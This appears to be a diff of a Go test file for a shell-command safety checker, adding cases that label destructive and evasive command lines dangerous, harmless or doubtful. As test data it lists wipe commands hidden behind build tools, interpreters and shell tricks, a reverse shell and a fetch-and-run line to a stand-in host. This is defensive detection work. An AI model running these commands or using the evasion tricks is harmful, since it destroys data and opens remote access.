@@ -107,3 +107,42 @@ func TestGuessesAreBounded(t *testing.T) {
 		require.Less(t, large, 24*small+10_000, unit)
 	}
 }
+
+// What a line tells a program by a file of its own making runs as if the line
+// said it.
+func TestToldByFile(t *testing.T) {
+	dangerous(t, []string{
+		`just -f <(printf 'a:\n  rm -rf /\n') a`, `ninja -f <(printf 'rule r\n command = rm -rf /home\n')`, `ansible-playbook <(echo '[{tasks: [{command: "rm -rf /"}]}]')`,
+		`echo '{"scripts":{"a":"rm -rf /"}}' > package.json; npm run a`, `npm pkg set scripts.a='rm -rf ~' && npm run a`, `printf '//go:generate rm -rf /\n' > a.go; go generate a.go`,
+		`go test -exec 'rm -rf /' ./...`, `tox -x testenv.commands='rm -rf /'`, `cargo --config "target.x.runner='rm -rf /'" run`, `CARGO_TARGET_X_RUNNER='rm -rf /' cargo run`,
+		`uv run -c 'import shutil;shutil.rmtree("/")'`, `uv run - <<< 'import shutil;shutil.rmtree("/")'`, `python3 -m timeit -s 'import os' 'os.system("rm -rf /")'`, `python3 -W ignore -c 'import shutil;shutil.rmtree("/usr")'`,
+		`pdflatex '\write18{rm -rf /}'`, `nroff -U <<< '.sy rm -rf /'`, `ssh h bash -s <<< 'rm -rf /home'`, `sqlite3 x.db 'select edit("a","rm -rf /")'`, `redis-cli eval 'os.execute("rm -rf /")' 0`,
+		`salt '*' file.remove /`, `find /usr -exec sh -c 'rm -rf "$0"' {} \;`, `find /usr -type f -exec truncate -s0 {} +`, `rg --files / | xargs rm`,
+	})
+	harmless(t, []string{
+		`just -f <(printf 'a:\n  rm -rf build\n') a`, `printf '# never rm -rf /\na:\n\techo b\n' > justfile; just a`, `cmake -P <(echo 'file(REMOVE_RECURSE build)')`, `echo '{"scripts":{"a":"rm -rf dist"}}' > package.json; npm run a`,
+		`go test -exec 'qemu-arm' ./...`, `tox -x testenv.commands='pytest -q'`, `CARGO_TARGET_X_RUNNER=qemu-arm cargo run`, `mvn exec:exec -Dexec.executable=java -Dexec.args="-jar a.jar"`, `uv run -c 'print(1)'`,
+		`python3 -m timeit -s 'import shutil' 'shutil.which("rm")'`, `python3 -W ignore -c 'print(1)'`, `pdflatex -shell-escape a.tex`, `salt '*' file.remove /tmp/a`, `find . -exec sh -c 'mv "$0" "${0%.a}.b"' {} \;`, `redis-cli eval 'return 1' 0`,
+	})
+}
+
+// Shells have more ways to keep a line, to split a word, and to name a program
+// than one of them shows.
+func TestOtherShells(t *testing.T) {
+	dangerous(t, []string{
+		"IFS=,; c=rm,-rf,/; $c", `IFS=_; set -- $(echo rm_-rf_/); "$@"`, `x='$(rm -rf /)'; echo "${x@P}"`, `x='a[$(rm -rf /)]'; echo $((x))`, "let 'a[$(rm -rf /)]=1'", "trap -- 'rm -rf /home' ERR", `mapfile -C 'rm -rf /' -c 1 < a`,
+		"complete -C 'rm -rf /' a", "fc -s rm -rf /", "bash --rcfile <(echo 'rm -rf /') -i", "BASH_ENV='$(rm -rf /)' bash -c :", "env 'BASH_FUNC_a%%=() { rm -rf /; }' bash -c a", "env x='() { :;}; rm -rf /' bash -c :",
+		`env -S'rm\_-rf\_/'`, "script -q /dev/null rm -rf /", "CDPATH=/ cd home && rm -rf *", "fish -C 'rm -rf /'", "fish -c 'rm -rf (echo /)'", "zsh -c '=rm -rf /'",
+		`zsh -c 'echo *(e:"rm -rf /":)'`, "zsh -c 'for d (/ /home) rm -rf $d'", `tcsh -c 'alias x "rm -rf /"; x'`, "nu -c '^rm -rf /'", "elvish -c 'e:rm -rf /'", "podman unshare rm -rf /home",
+		"rm -rf /mnt/c/Windows", "rm -rf /cygdrive/c", "pwsh -c 'while(1){start powershell}'", "chmod 000 /", "pkill -9 -u 0", "fuser -km /home", "stress-ng --fork 0", "git --work-tree=/ rm -rf .", "GIT_WORK_TREE=/ git clean -fdx",
+	})
+	for _, line := range []string{`powershell "iex (iwr http://a.example/x)"`, `python3 -c 'import pickle,base64;pickle.loads(base64.b64decode("Y3A="))'`} {
+		require.Contains(t, codes(shell(t, line).Unread), touch.UnreadCode, line)
+	}
+	doubted(t, touch.OpaqueCommand, []string{"bash -i >& /dev/tcp/a.example/1 0>&1", "enable -f /tmp/a.so a"}, []string{
+		`pwsh -c 'Invoke-WebRequest https://a.example -OutFile a'`, "echo a > /dev/tcp/a.example/1", "enable -n test", `python3 -c 'import pickle; print(pickle.load(open("a.pkl","rb")))'`,
+		`IFS=: read -ra p <<< "$PATH"`, `IFS=_; set -- $(echo a_b_c); echo $2`, `PS1='\u@\h'; echo "${PS1@P}"`, "x='a[0]'; echo $((x))", "let 'a[0]=1'", "trap -- 'echo done' EXIT", "complete -C aws_completer aws", "bash --rcfile <(echo 'PS1=x') -i",
+		"env 'F=() { :; }' true", "fish -c 'for f in *.log; rm $f; end'", "fish -c 'set x (date); echo $x'", "zsh -c 'print -l *(.om[1,5])'", "zsh -c 'for f (*.txt) echo $f'", "rm -rf /mnt/c/Users/dev/a/build", "mknod p p; echo a > p", "chmod 000 a", "pkill -u dev node", "fuser -k 8080/tcp",
+		"stress-ng --fork 4 --timeout 10s", "git -C sub clean -fd", "git --work-tree=/workspace/site checkout -f main",
+	})
+}
